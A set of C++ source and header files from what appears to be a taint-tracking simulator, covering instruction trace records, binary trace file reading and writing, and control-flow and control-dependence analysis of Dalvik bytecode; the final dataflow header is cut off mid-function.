#ifndef PIFT_SIM_TRACE_HH
#define PIFT_SIM_TRACE_HH

#include <array>
#include <cstdint>
#include <vector>

#include "isa/inst.hh"
#include "support/types.hh"

namespace pift::sim
{

struct EventBatch; // sim/batch.hh: SoA chunk of consecutive records

/** Memory behaviour of one retired instruction. */
enum class MemKind : uint8_t { None = 0, Load, Store };

/** One retired instruction as seen by the PIFT hardware front-end. */
struct TraceRecord
{
    SeqNum seq = 0;        //!< global retired-instruction index
    SeqNum local_seq = 0;  //!< per-process instruction counter
    ProcId pid = 0;        //!< process-specific id (PID/TTBR)
    Addr pc = 0;           //!< address of the instruction
    isa::Op op = isa::Op::Nop;

    RegIndex dst = no_reg;   //!< written register (loads/ALU)
    RegIndex dst2 = no_reg;  //!< second written register (ldrd/ldm)
    std::array<RegIndex, 3> src{no_reg, no_reg, no_reg}; //!< read regs
    uint8_t reg_count = 0;   //!< ldm/stm transfer count
    uint32_t aux = 0;        //!< svc number for Op::Svc records

    MemKind mem_kind = MemKind::None;
    Addr mem_start = 0;      //!< first byte accessed (inclusive)
    Addr mem_end = 0;        //!< last byte accessed (inclusive)
};

/** What a ControlEvent asks of the tracking backend. */
enum class ControlKind : uint8_t
{
    RegisterSource = 0, //!< taint [start,end] (source registration)
    CheckSink,          //!< query overlap of [start,end] (sink check)
    ClearAll            //!< drop all taint state (new app run)
};

/**
 * A software-level command interleaved with the instruction stream.
 * `seq` is the number of records that precede the event, so replays
 * reproduce the live interleaving exactly.
 */
struct ControlEvent
{
    SeqNum seq = 0;
    ControlKind kind = ControlKind::RegisterSource;
    ProcId pid = 0;
    Addr start = 0;
    Addr end = 0;
    uint32_t id = 0;    //!< source/sink identifier (app-defined)
};

/** A captured execution: records plus interleaved control events. */
struct Trace
{
    std::vector<TraceRecord> records;
    std::vector<ControlEvent> controls;

    void
    clear()
    {
        records.clear();
        controls.clear();
    }
};

/** Consumer of the live event stream. */
class TraceSink
{
  public:
    virtual ~TraceSink() = default;

    /** Called for every retired instruction, in order. */
    virtual void onRecord(const TraceRecord &rec) = 0;

    /**
     * Called with a chunk of consecutive records when the producer
     * runs batched (sim/batch.hh). The default unrolls the chunk
     * through onRecord, so per-event sinks are batch-transparent;
     * hot consumers override it with a tight SoA loop. A sink sees
     * each record exactly once — via onRecord or via one onBatch,
     * never both.
     */
    virtual void onBatch(const EventBatch &batch);

    /** Called for every software command, in stream order. */
    virtual void onControl(const ControlEvent &ev) { (void)ev; }
};

/** Fan-out point connecting the CPU and software layers to sinks. */
class EventHub
{
  public:
    /** Attach a sink; not owned. */
    void addSink(TraceSink *sink) { sinks.push_back(sink); }

    /** Detach a previously attached sink. */
    void removeSink(TraceSink *sink);

    /** Number of records published so far (assigns ControlEvent.seq). */
    SeqNum recordCount() const { return nrecords; }

    void
    publish(const TraceRecord &rec)
    {
        ++nrecords;
        for (auto *s : sinks)
            s->onRecord(rec);
    }

    void
    publish(const ControlEvent &ev)
    {
        for (auto *s : sinks)
            s->onControl(ev);
    }

    /**
     * Publish a chunk of @p batch.count records in one fan-out.
     * Advances recordCount() by the whole chunk up front, exactly as
     * count publish() calls would have.
     */
    void publishBatch(const EventBatch &batch);

  private:
    std::vector<TraceSink *> sinks;
    SeqNum nrecords = 0;
};

/** TraceSink that captures the full stream into a Trace. */
class TraceBuffer : public TraceSink
{
  public:
    void onRecord(const TraceRecord &rec) override;
    void onBatch(const EventBatch &batch) override;
    void onControl(const ControlEvent &ev) override;

    const Trace &trace() const { return data; }
    Trace takeTrace() { return std::move(data); }
    void clear() { data.clear(); }

  private:
    Trace data;
};

/**
 * Replay a captured trace into a sink, reproducing the original
 * interleaving of records and control events.
 */
void replay(const Trace &trace, TraceSink &sink);

/**
 * Resume a replay mid-stream: deliver exactly the events that
 * replay() would deliver after its first @p records_done records and
 * @p controls_done control events, in the same interleaving. The
 * cursor pair uniquely identifies a position in the merged stream, so
 * replayFrom(trace, sink, 0, 0) is identical to replay(trace, sink).
 * Used by crash recovery to re-drive the suffix a crash lost.
 */
void replayFrom(const Trace &trace, TraceSink &sink,
                SeqNum records_done, uint64_t controls_done);

} // namespace pift::sim

#endif // PIFT_SIM_TRACE_HH
