#include "sim/trace_io.hh"

#include <algorithm>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <ostream>

#include "isa/inst.hh"

namespace pift::sim
{

namespace
{

constexpr uint32_t trace_magic = 0x50494654; // "PIFT"
constexpr uint32_t trace_version = 2;

struct Header
{
    uint32_t magic;
    uint32_t version;
    uint64_t record_count;
    uint64_t control_count;
};

// On-disk shapes: explicitly packed copies of the in-memory structs so
// layout changes can't silently corrupt old files.
struct DiskRecord
{
    uint64_t seq;
    uint64_t local_seq;
    uint32_t pid;
    uint32_t pc;
    uint8_t op;
    uint8_t dst;
    uint8_t dst2;
    uint8_t src0, src1, src2;
    uint8_t reg_count;
    uint8_t mem_kind;
    uint32_t mem_start;
    uint32_t mem_end;
    uint32_t aux;
};

struct DiskControl
{
    uint64_t seq;
    uint8_t kind;
    uint8_t pad[3];
    uint32_t pid;
    uint32_t start;
    uint32_t end;
    uint32_t id;
};

DiskRecord
pack(const TraceRecord &r)
{
    DiskRecord d{};
    d.seq = r.seq;
    d.local_seq = r.local_seq;
    d.pid = r.pid;
    d.pc = r.pc;
    d.op = static_cast<uint8_t>(r.op);
    d.dst = r.dst;
    d.dst2 = r.dst2;
    d.src0 = r.src[0];
    d.src1 = r.src[1];
    d.src2 = r.src[2];
    d.reg_count = r.reg_count;
    d.mem_kind = static_cast<uint8_t>(r.mem_kind);
    d.mem_start = r.mem_start;
    d.mem_end = r.mem_end;
    d.aux = r.aux;
    return d;
}

/**
 * Per-record sanity check: fixed-size framing means a corrupt record
 * cannot desynchronize the reader, so rejecting the record itself is
 * enough to resynchronize at the next slot.
 */
bool
recordSane(const DiskRecord &d)
{
    if (d.op >= static_cast<uint8_t>(isa::Op::NumOps))
        return false;
    if (d.mem_kind > static_cast<uint8_t>(MemKind::Store))
        return false;
    if (d.mem_kind != static_cast<uint8_t>(MemKind::None) &&
        d.mem_start > d.mem_end) {
        return false;
    }
    return true;
}

bool
controlSane(const DiskControl &d)
{
    return d.kind <= static_cast<uint8_t>(ControlKind::ClearAll);
}

TraceRecord
unpack(const DiskRecord &d)
{
    TraceRecord r;
    r.seq = d.seq;
    r.local_seq = d.local_seq;
    r.pid = d.pid;
    r.pc = d.pc;
    r.op = static_cast<isa::Op>(d.op);
    r.dst = d.dst;
    r.dst2 = d.dst2;
    r.src = {d.src0, d.src1, d.src2};
    r.reg_count = d.reg_count;
    r.mem_kind = static_cast<MemKind>(d.mem_kind);
    r.mem_start = d.mem_start;
    r.mem_end = d.mem_end;
    r.aux = d.aux;
    return r;
}

} // anonymous namespace

void
writeTrace(std::ostream &os, const Trace &trace)
{
    Header h{trace_magic, trace_version, trace.records.size(),
             trace.controls.size()};
    os.write(reinterpret_cast<const char *>(&h), sizeof(h));
    for (const auto &r : trace.records) {
        DiskRecord d = pack(r);
        os.write(reinterpret_cast<const char *>(&d), sizeof(d));
    }
    for (const auto &c : trace.controls) {
        DiskControl d{};
        d.seq = c.seq;
        d.kind = static_cast<uint8_t>(c.kind);
        d.pid = c.pid;
        d.start = c.start;
        d.end = c.end;
        d.id = c.id;
        os.write(reinterpret_cast<const char *>(&d), sizeof(d));
    }
}

Expected<TraceReadReport>
readTraceTolerant(std::istream &is, Trace &trace)
{
    Header h{};
    is.read(reinterpret_cast<char *>(&h), sizeof(h));
    if (!is)
        return Status::error("trace shorter than its header");
    if (h.magic != trace_magic)
        return Status::error("not a PIFT trace (bad magic)");
    if (h.version != trace_version) {
        return Status::error("unsupported trace version " +
                             std::to_string(h.version) + " (expected " +
                             std::to_string(trace_version) + ")");
    }

    TraceReadReport report;
    report.records_expected = h.record_count;
    report.controls_expected = h.control_count;

    trace.clear();
    // Reserve from the header, but never trust a corrupt count with
    // the whole address space.
    constexpr uint64_t reserve_cap = 1ull << 22;
    trace.records.reserve(std::min(h.record_count, reserve_cap));
    for (uint64_t i = 0; i < h.record_count; ++i) {
        DiskRecord d{};
        is.read(reinterpret_cast<char *>(&d), sizeof(d));
        if (!is) {
            report.truncated = true;
            return report;
        }
        if (!recordSane(d)) {
            ++report.records_bad;
            continue;
        }
        trace.records.push_back(unpack(d));
        ++report.records_read;
    }
    trace.controls.reserve(std::min(h.control_count, reserve_cap));
    for (uint64_t i = 0; i < h.control_count; ++i) {
        DiskControl d{};
        is.read(reinterpret_cast<char *>(&d), sizeof(d));
        if (!is) {
            report.truncated = true;
            return report;
        }
        if (!controlSane(d)) {
            ++report.controls_bad;
            continue;
        }
        ControlEvent c;
        c.seq = d.seq;
        c.kind = static_cast<ControlKind>(d.kind);
        c.pid = d.pid;
        c.start = d.start;
        c.end = d.end;
        c.id = d.id;
        trace.controls.push_back(c);
        ++report.controls_read;
    }
    return report;
}

bool
readTrace(std::istream &is, Trace &trace)
{
    auto result = readTraceTolerant(is, trace);
    return result.ok() && !result.value().lossy();
}

Status
saveTrace(const std::string &path, const Trace &trace)
{
    std::ofstream os(path, std::ios::binary);
    if (!os) {
        return Status::error("cannot open trace file '" + path +
                             "' for writing");
    }
    writeTrace(os, trace);
    os.flush();
    if (!os) {
        return Status::error("write to trace file '" + path +
                             "' failed");
    }
    return Status();
}

Status
loadTrace(const std::string &path, Trace &trace)
{
    std::ifstream is(path, std::ios::binary);
    if (!is) {
        return Status::error("cannot open trace file '" + path +
                             "' for reading");
    }
    auto result = readTraceTolerant(is, trace);
    if (!result.ok())
        return result.status();
    if (result.value().lossy()) {
        return Status::error("trace file '" + path +
                             "' is truncated or corrupt (use the "
                             "tolerant loader to salvage it)");
    }
    return Status();
}

Expected<TraceReadReport>
loadTraceTolerant(const std::string &path, Trace &trace)
{
    std::ifstream is(path, std::ios::binary);
    if (!is) {
        return Status::error("cannot open trace file '" + path +
                             "' for reading");
    }
    return readTraceTolerant(is, trace);
}

void
dumpTraceText(std::ostream &os, const Trace &trace)
{
    size_t ci = 0;
    char buf[160];
    for (size_t ri = 0; ri < trace.records.size(); ++ri) {
        while (ci < trace.controls.size() &&
               trace.controls[ci].seq <= ri) {
            const auto &c = trace.controls[ci++];
            const char *kind =
                c.kind == ControlKind::RegisterSource ? "source" :
                c.kind == ControlKind::CheckSink ? "sink" : "clear";
            std::snprintf(buf, sizeof(buf),
                          "# %s pid=%u range=[0x%08x,0x%08x] id=%u\n",
                          kind, c.pid, c.start, c.end, c.id);
            os << buf;
        }
        const auto &r = trace.records[ri];
        const char *mk = r.mem_kind == MemKind::Load ? "L" :
            r.mem_kind == MemKind::Store ? "S" : " ";
        std::snprintf(buf, sizeof(buf),
                      "%10llu pid=%u pc=0x%08x %-5s %s",
                      static_cast<unsigned long long>(r.seq), r.pid,
                      r.pc, isa::opName(r.op), mk);
        os << buf;
        if (r.mem_kind != MemKind::None) {
            std::snprintf(buf, sizeof(buf), " [0x%08x,0x%08x]",
                          r.mem_start, r.mem_end);
            os << buf;
        }
        os << "\n";
    }
}

} // namespace pift::sim
