#include "sim/trace_io.hh"

#include <cstring>
#include <fstream>
#include <ostream>

#include "isa/inst.hh"
#include "support/logging.hh"

namespace pift::sim
{

namespace
{

constexpr uint32_t trace_magic = 0x50494654; // "PIFT"
constexpr uint32_t trace_version = 2;

struct Header
{
    uint32_t magic;
    uint32_t version;
    uint64_t record_count;
    uint64_t control_count;
};

// On-disk shapes: explicitly packed copies of the in-memory structs so
// layout changes can't silently corrupt old files.
struct DiskRecord
{
    uint64_t seq;
    uint64_t local_seq;
    uint32_t pid;
    uint32_t pc;
    uint8_t op;
    uint8_t dst;
    uint8_t dst2;
    uint8_t src0, src1, src2;
    uint8_t reg_count;
    uint8_t mem_kind;
    uint32_t mem_start;
    uint32_t mem_end;
    uint32_t aux;
};

struct DiskControl
{
    uint64_t seq;
    uint8_t kind;
    uint8_t pad[3];
    uint32_t pid;
    uint32_t start;
    uint32_t end;
    uint32_t id;
};

DiskRecord
pack(const TraceRecord &r)
{
    DiskRecord d{};
    d.seq = r.seq;
    d.local_seq = r.local_seq;
    d.pid = r.pid;
    d.pc = r.pc;
    d.op = static_cast<uint8_t>(r.op);
    d.dst = r.dst;
    d.dst2 = r.dst2;
    d.src0 = r.src[0];
    d.src1 = r.src[1];
    d.src2 = r.src[2];
    d.reg_count = r.reg_count;
    d.mem_kind = static_cast<uint8_t>(r.mem_kind);
    d.mem_start = r.mem_start;
    d.mem_end = r.mem_end;
    d.aux = r.aux;
    return d;
}

TraceRecord
unpack(const DiskRecord &d)
{
    TraceRecord r;
    r.seq = d.seq;
    r.local_seq = d.local_seq;
    r.pid = d.pid;
    r.pc = d.pc;
    r.op = static_cast<isa::Op>(d.op);
    r.dst = d.dst;
    r.dst2 = d.dst2;
    r.src = {d.src0, d.src1, d.src2};
    r.reg_count = d.reg_count;
    r.mem_kind = static_cast<MemKind>(d.mem_kind);
    r.mem_start = d.mem_start;
    r.mem_end = d.mem_end;
    r.aux = d.aux;
    return r;
}

} // anonymous namespace

void
writeTrace(std::ostream &os, const Trace &trace)
{
    Header h{trace_magic, trace_version, trace.records.size(),
             trace.controls.size()};
    os.write(reinterpret_cast<const char *>(&h), sizeof(h));
    for (const auto &r : trace.records) {
        DiskRecord d = pack(r);
        os.write(reinterpret_cast<const char *>(&d), sizeof(d));
    }
    for (const auto &c : trace.controls) {
        DiskControl d{};
        d.seq = c.seq;
        d.kind = static_cast<uint8_t>(c.kind);
        d.pid = c.pid;
        d.start = c.start;
        d.end = c.end;
        d.id = c.id;
        os.write(reinterpret_cast<const char *>(&d), sizeof(d));
    }
}

bool
readTrace(std::istream &is, Trace &trace)
{
    Header h{};
    is.read(reinterpret_cast<char *>(&h), sizeof(h));
    if (!is || h.magic != trace_magic || h.version != trace_version)
        return false;
    trace.clear();
    trace.records.reserve(h.record_count);
    for (uint64_t i = 0; i < h.record_count; ++i) {
        DiskRecord d{};
        is.read(reinterpret_cast<char *>(&d), sizeof(d));
        if (!is)
            return false;
        trace.records.push_back(unpack(d));
    }
    trace.controls.reserve(h.control_count);
    for (uint64_t i = 0; i < h.control_count; ++i) {
        DiskControl d{};
        is.read(reinterpret_cast<char *>(&d), sizeof(d));
        if (!is)
            return false;
        ControlEvent c;
        c.seq = d.seq;
        c.kind = static_cast<ControlKind>(d.kind);
        c.pid = d.pid;
        c.start = d.start;
        c.end = d.end;
        c.id = d.id;
        trace.controls.push_back(c);
    }
    return true;
}

void
saveTrace(const std::string &path, const Trace &trace)
{
    std::ofstream os(path, std::ios::binary);
    if (!os)
        pift_panic("cannot open trace file '%s' for writing",
                   path.c_str());
    writeTrace(os, trace);
    if (!os)
        pift_panic("write to trace file '%s' failed", path.c_str());
}

bool
loadTrace(const std::string &path, Trace &trace)
{
    std::ifstream is(path, std::ios::binary);
    if (!is)
        return false;
    return readTrace(is, trace);
}

void
dumpTraceText(std::ostream &os, const Trace &trace)
{
    size_t ci = 0;
    char buf[160];
    for (size_t ri = 0; ri < trace.records.size(); ++ri) {
        while (ci < trace.controls.size() &&
               trace.controls[ci].seq <= ri) {
            const auto &c = trace.controls[ci++];
            const char *kind =
                c.kind == ControlKind::RegisterSource ? "source" :
                c.kind == ControlKind::CheckSink ? "sink" : "clear";
            std::snprintf(buf, sizeof(buf),
                          "# %s pid=%u range=[0x%08x,0x%08x] id=%u\n",
                          kind, c.pid, c.start, c.end, c.id);
            os << buf;
        }
        const auto &r = trace.records[ri];
        const char *mk = r.mem_kind == MemKind::Load ? "L" :
            r.mem_kind == MemKind::Store ? "S" : " ";
        std::snprintf(buf, sizeof(buf),
                      "%10llu pid=%u pc=0x%08x %-5s %s",
                      static_cast<unsigned long long>(r.seq), r.pid,
                      r.pc, isa::opName(r.op), mk);
        os << buf;
        if (r.mem_kind != MemKind::None) {
            std::snprintf(buf, sizeof(buf), " [0x%08x,0x%08x]",
                          r.mem_start, r.mem_end);
            os << buf;
        }
        os << "\n";
    }
}

} // namespace pift::sim
