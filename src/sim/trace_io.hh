/**
 * @file
 * Trace persistence.
 *
 * Binary format for captured traces (so long app runs can be recorded
 * once and swept offline many times, the way the paper fed gem5 traces
 * into the PIFT analysis code), plus a human-readable text dump for
 * debugging.
 *
 * Binary layout: a fixed header {magic, version, record count, control
 * count} followed by packed on-disk record structs. The format is
 * host-endianness (little-endian on all supported hosts) and is a
 * cache file format, not an interchange format.
 */

#ifndef PIFT_SIM_TRACE_IO_HH
#define PIFT_SIM_TRACE_IO_HH

#include <iosfwd>
#include <string>

#include "sim/trace.hh"

namespace pift::sim
{

/** Serialize @p trace to a binary stream. */
void writeTrace(std::ostream &os, const Trace &trace);

/**
 * Deserialize a trace written by writeTrace.
 * @return false on magic/version mismatch or truncation.
 */
bool readTrace(std::istream &is, Trace &trace);

/** Convenience: write to a file path; panics on I/O failure. */
void saveTrace(const std::string &path, const Trace &trace);

/** Convenience: read from a file path. @return false on failure. */
bool loadTrace(const std::string &path, Trace &trace);

/** Dump a trace as text, one line per record/control, for debugging. */
void dumpTraceText(std::ostream &os, const Trace &trace);

} // namespace pift::sim

#endif // PIFT_SIM_TRACE_IO_HH
