/**
 * @file
 * Trace persistence.
 *
 * Binary format for captured traces (so long app runs can be recorded
 * once and swept offline many times, the way the paper fed gem5 traces
 * into the PIFT analysis code), plus a human-readable text dump for
 * debugging.
 *
 * Binary layout: a fixed header {magic, version, record count, control
 * count} followed by packed on-disk record structs. The format is
 * host-endianness (little-endian on all supported hosts) and is a
 * cache file format, not an interchange format.
 *
 * I/O failures are recoverable conditions, not bugs: the file-path
 * helpers return Status/Expected instead of panicking, and the
 * tolerant reader salvages every sound record from a truncated or
 * partially corrupt file — records are fixed-size, so framing
 * self-resynchronizes and per-record sanity checks skip mangled
 * entries individually.
 */

#ifndef PIFT_SIM_TRACE_IO_HH
#define PIFT_SIM_TRACE_IO_HH

#include <iosfwd>
#include <string>

#include "sim/trace.hh"
#include "support/expected.hh"

namespace pift::sim
{

/** Serialize @p trace to a binary stream. */
void writeTrace(std::ostream &os, const Trace &trace);

/**
 * Strict deserialization of a trace written by writeTrace.
 * @return false on magic/version mismatch, truncation, or any
 *         record that fails sanity checks
 */
bool readTrace(std::istream &is, Trace &trace);

/** What a tolerant read managed to salvage. */
struct TraceReadReport
{
    uint64_t records_expected = 0; //!< header's record count
    uint64_t records_read = 0;     //!< sound records recovered
    uint64_t records_bad = 0;      //!< records skipped by sanity checks
    uint64_t controls_expected = 0;
    uint64_t controls_read = 0;
    uint64_t controls_bad = 0;
    bool truncated = false;        //!< payload ended early

    /** True when anything was lost relative to the header's promise. */
    bool
    lossy() const
    {
        return truncated || records_bad > 0 || controls_bad > 0;
    }
};

/**
 * Tolerant deserialization: the header must be sound (magic/version),
 * but a truncated payload keeps every complete record, and records
 * failing sanity checks (unknown opcode/kind, inverted memory range)
 * are skipped individually while reading continues at the next
 * fixed-size slot.
 *
 * @return the salvage report, or an error Status when not even the
 *         header is usable
 */
Expected<TraceReadReport> readTraceTolerant(std::istream &is,
                                            Trace &trace);

/** Write @p trace to a file. @return error Status on I/O failure. */
Status saveTrace(const std::string &path, const Trace &trace);

/** Strict read from a file path. @return error Status on failure. */
Status loadTrace(const std::string &path, Trace &trace);

/** Tolerant read from a file path (see readTraceTolerant). */
Expected<TraceReadReport> loadTraceTolerant(const std::string &path,
                                            Trace &trace);

/** Dump a trace as text, one line per record/control, for debugging. */
void dumpTraceText(std::ostream &os, const Trace &trace);

} // namespace pift::sim

#endif // PIFT_SIM_TRACE_IO_HH
