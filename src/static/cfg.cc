#include "static/cfg.hh"

#include <algorithm>
#include <map>

#include "dalvik/method.hh"

namespace pift::static_analysis
{

size_t
Cfg::blockAtUnit(size_t unit) const
{
    for (size_t b = 0; b < blocks.size(); ++b) {
        const BasicBlock &bb = blocks[b];
        for (size_t k = 0; k < bb.count; ++k)
            if (insts[bb.first + k].unit == unit)
                return b;
    }
    return npos;
}

Cfg
buildCfg(const dalvik::Method &method)
{
    size_t catch_off = method.catch_offset >= 0
        ? static_cast<size_t>(method.catch_offset)
        : static_cast<size_t>(-1);
    return buildCfg(method.code, catch_off);
}

Cfg
buildCfg(const std::vector<uint16_t> &code, size_t catch_offset)
{
    Cfg cfg;
    DecodeError err = DecodeError::None;
    cfg.insts = decodeAll(code, &err);
    if (err != DecodeError::None || cfg.insts.empty())
        return cfg;

    // Map from unit offset to instruction index, then mark leaders.
    std::map<size_t, size_t> unit_to_inst;
    for (size_t i = 0; i < cfg.insts.size(); ++i)
        unit_to_inst[cfg.insts[i].unit] = i;

    std::vector<bool> leader(cfg.insts.size(), false);
    leader[0] = true;
    if (catch_offset != static_cast<size_t>(-1)) {
        auto it = unit_to_inst.find(catch_offset);
        if (it != unit_to_inst.end())
            leader[it->second] = true;
    }
    for (size_t i = 0; i < cfg.insts.size(); ++i) {
        const DecodedInst &inst = cfg.insts[i];
        if (inst.isBranch()) {
            auto it = unit_to_inst.find(inst.targetUnit());
            if (it != unit_to_inst.end())
                leader[it->second] = true;
        }
        bool ends_block = inst.isBranch() || !inst.fallsThrough();
        if (ends_block && i + 1 < cfg.insts.size())
            leader[i + 1] = true;
    }

    // Carve blocks and record which block each instruction lands in.
    std::vector<size_t> inst_block(cfg.insts.size(), Cfg::npos);
    for (size_t i = 0; i < cfg.insts.size(); ++i) {
        if (leader[i]) {
            BasicBlock bb;
            bb.first = i;
            cfg.blocks.push_back(bb);
        }
        cfg.blocks.back().count++;
        inst_block[i] = cfg.blocks.size() - 1;
    }

    // Edges: branch target plus fall-through.
    for (size_t b = 0; b < cfg.blocks.size(); ++b) {
        const DecodedInst &last = cfg.lastInst(cfg.blocks[b]);
        size_t last_idx = cfg.blocks[b].first + cfg.blocks[b].count - 1;
        if (last.isBranch()) {
            auto it = unit_to_inst.find(last.targetUnit());
            if (it != unit_to_inst.end())
                cfg.blocks[b].succs.push_back(inst_block[it->second]);
        }
        if (last.fallsThrough() && last_idx + 1 < cfg.insts.size()) {
            size_t next = inst_block[last_idx + 1];
            if (std::find(cfg.blocks[b].succs.begin(),
                          cfg.blocks[b].succs.end(),
                          next) == cfg.blocks[b].succs.end())
                cfg.blocks[b].succs.push_back(next);
        }
    }
    for (size_t b = 0; b < cfg.blocks.size(); ++b)
        for (size_t s : cfg.blocks[b].succs)
            cfg.blocks[s].preds.push_back(b);

    cfg.entry_block = 0;
    if (catch_offset != static_cast<size_t>(-1)) {
        auto it = unit_to_inst.find(catch_offset);
        if (it != unit_to_inst.end())
            cfg.catch_block = inst_block[it->second];
    }

    // Reachability from the entry and the catch entry.
    std::vector<size_t> work{cfg.entry_block};
    if (cfg.catch_block != Cfg::npos)
        work.push_back(cfg.catch_block);
    while (!work.empty()) {
        size_t b = work.back();
        work.pop_back();
        if (cfg.blocks[b].reachable)
            continue;
        cfg.blocks[b].reachable = true;
        for (size_t s : cfg.blocks[b].succs)
            work.push_back(s);
    }

    return cfg;
}

} // namespace pift::static_analysis
