/**
 * @file
 * Control-flow graph over decoded bytecode.
 *
 * Basic blocks are maximal straight-line instruction runs: leaders are
 * the entry point, every branch target, every instruction following a
 * branch or fall-through-less instruction, and the catch handler
 * entry when the method declares one. Edges follow branch targets and
 * fall-through; the catch entry is treated as an additional root for
 * reachability (control can transfer there from any throwing point,
 * which we deliberately do not model edge-by-edge).
 */

#ifndef PIFT_STATIC_CFG_HH
#define PIFT_STATIC_CFG_HH

#include <cstdint>
#include <vector>

#include "static/decode.hh"

namespace pift::dalvik
{
struct Method;
}

namespace pift::static_analysis
{

/** A basic block: a contiguous range of decoded instructions. */
struct BasicBlock
{
    size_t first = 0;           //!< index into Cfg::insts
    size_t count = 0;           //!< instructions in the block
    std::vector<size_t> succs;  //!< successor block ids
    std::vector<size_t> preds;  //!< predecessor block ids
    bool reachable = false;     //!< from entry or catch entry
};

/** CFG of one method body. */
struct Cfg
{
    std::vector<DecodedInst> insts;
    std::vector<BasicBlock> blocks;
    size_t entry_block = 0;
    /** Block id of the catch handler entry; npos when none. */
    size_t catch_block = npos;

    static constexpr size_t npos = static_cast<size_t>(-1);

    const DecodedInst &inst(const BasicBlock &b, size_t k) const
    {
        return insts[b.first + k];
    }
    const DecodedInst &lastInst(const BasicBlock &b) const
    {
        return insts[b.first + b.count - 1];
    }
    /** Block containing the instruction at @p unit; npos if none. */
    size_t blockAtUnit(size_t unit) const;
};

/**
 * Build the CFG for @p method. The method's bytecode must decode
 * cleanly (run the verifier first on untrusted input); a decode error
 * yields an empty CFG.
 */
Cfg buildCfg(const dalvik::Method &method);

/** Build from raw code units plus an optional catch entry offset. */
Cfg buildCfg(const std::vector<uint16_t> &code,
             size_t catch_offset = static_cast<size_t>(-1));

} // namespace pift::static_analysis

#endif // PIFT_STATIC_CFG_HH
