#include "static/control_dep.hh"

#include <algorithm>
#include <set>

namespace pift::static_analysis
{

std::vector<size_t>
ControlDeps::region(size_t branch_block) const
{
    std::vector<size_t> out;
    for (size_t b = 0; b < controllers.size(); ++b)
        if (dependsOn(b, branch_block))
            out.push_back(b);
    return out;
}

ControlDeps
buildControlDeps(const Cfg &cfg, const PostDomTree &pdt)
{
    ControlDeps deps;
    const size_t n = cfg.blocks.size();
    deps.controllers.assign(n, {});
    deps.transitive.assign(n, {});

    // Edge-wise Ferrante-Ottenstein: for each branch edge (u, v)
    // where v does not post-dominate u, every block on the
    // post-dominator path [v, ipdom(u)) is control dependent on u.
    for (size_t u = 0; u < n; ++u) {
        const auto &succs = cfg.blocks[u].succs;
        if (succs.size() < 2)
            continue; // a single successor decides nothing
        size_t stop = pdt.reachesExit(u) ? pdt.ipdom[u]
                                         : PostDomTree::npos;
        for (size_t v : succs) {
            if (pdt.postDominates(v, u))
                continue;
            size_t w = v;
            while (w != stop && w != PostDomTree::npos &&
                   w != pdt.exit_id) {
                deps.controllers[w].push_back(u);
                w = w < pdt.ipdom.size() ? pdt.ipdom[w]
                                         : PostDomTree::npos;
            }
        }
    }
    for (auto &c : deps.controllers) {
        std::sort(c.begin(), c.end());
        c.erase(std::unique(c.begin(), c.end()), c.end());
    }

    // Transitive closure by DFS over the controller relation. Cycles
    // (a loop header controlling itself) are cut by the visited set.
    for (size_t b = 0; b < n; ++b) {
        std::set<size_t> closed;
        std::vector<size_t> work(deps.controllers[b].begin(),
                                 deps.controllers[b].end());
        while (!work.empty()) {
            size_t c = work.back();
            work.pop_back();
            if (!closed.insert(c).second)
                continue;
            work.insert(work.end(), deps.controllers[c].begin(),
                        deps.controllers[c].end());
        }
        deps.transitive[b].assign(closed.begin(), closed.end());
    }
    return deps;
}

} // namespace pift::static_analysis
