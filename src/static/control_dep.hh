/**
 * @file
 * Control-dependence graph via post-dominance frontiers.
 *
 * Block X is control dependent on block Y when Y has an outgoing edge
 * (Y, v) with X on the post-dominator-tree path [v, ipdom(Y)) — i.e.
 * Y's branch outcome decides whether X executes (Ferrante-Ottenstein,
 * computed edge-wise over the post-dominator tree of dominators.hh).
 * A loop header is control dependent on its own exit branch, which is
 * the standard self-dependence for cyclic regions.
 *
 * Besides the direct controller sets the graph carries their
 * transitive closure: a block nested two branches deep is (indirectly)
 * governed by both conditions, which is exactly the join the implicit
 * -flow oracle mode needs — information flows from every condition
 * that decides whether a definition executes, not just the innermost.
 */

#ifndef PIFT_STATIC_CONTROL_DEP_HH
#define PIFT_STATIC_CONTROL_DEP_HH

#include <algorithm>
#include <cstddef>
#include <vector>

#include "static/cfg.hh"
#include "static/dominators.hh"

namespace pift::static_analysis
{

/** Control-dependence sets of one Cfg. */
struct ControlDeps
{
    /**
     * Per block: the blocks whose terminating branch directly
     * controls it (sorted, deduplicated). The controlling condition
     * is the last instruction of each listed block.
     */
    std::vector<std::vector<size_t>> controllers;

    /** Per block: transitive closure of controllers (sorted). */
    std::vector<std::vector<size_t>> transitive;

    /** Blocks directly control dependent on @p branch_block. */
    std::vector<size_t> region(size_t branch_block) const;

    bool
    dependsOn(size_t block, size_t branch_block) const
    {
        const auto &c = controllers[block];
        return std::binary_search(c.begin(), c.end(), branch_block);
    }
};

/** Build the control-dependence sets of @p cfg given its @p pdt. */
ControlDeps buildControlDeps(const Cfg &cfg, const PostDomTree &pdt);

} // namespace pift::static_analysis

#endif // PIFT_STATIC_CONTROL_DEP_HH
