/**
 * @file
 * Forward dataflow fixpoint over a Cfg.
 *
 * The classic worklist algorithm, parameterised on the abstract
 * state. The transfer problem supplies three operations:
 *
 *   State boundary()                    — state at the method entry
 *   bool  merge(State &into, in)       — join; true when `into` grew
 *   void  transfer(State &, inst)      — apply one instruction
 *
 * A problem may additionally define `void enterBlock(size_t b)`; it
 * is invoked before a block's instructions are transferred, giving
 * block-sensitive problems (the implicit-flow oracle joins per-block
 * control-dependence context) the current block id.
 *
 * Blocks re-enter the worklist when a predecessor's out-state grows,
 * so termination requires merge() to be monotone over a finite-height
 * lattice (all ours are powerset lattices over registers/fields).
 * The catch entry merges from every block's *entry* state: control
 * can transfer there from any throwing instruction, and using the
 * coarser block-entry state keeps the analysis sound without
 * modelling per-instruction exceptional edges.
 */

#ifndef PIFT_STATIC_DATAFLOW_HH
#define PIFT_STATIC_DATAFLOW_HH

#include <vector>

#include "static/cfg.hh"

namespace pift::static_analysis
{

/** Per-block in/out states after a forward fixpoint run. */
template <typename State>
struct DataflowResult
{
    std::vector<State> block_in;
    std::vector<State> block_out;
};

template <typename Problem,
          typename State = typename Problem::State>
DataflowResult<State>
solveForward(const Cfg &cfg, Problem &problem)
{
    DataflowResult<State> result;
    result.block_in.resize(cfg.blocks.size());
    result.block_out.resize(cfg.blocks.size());
    if (cfg.blocks.empty())
        return result;

    result.block_in[cfg.entry_block] = problem.boundary();
    if (cfg.catch_block != Cfg::npos)
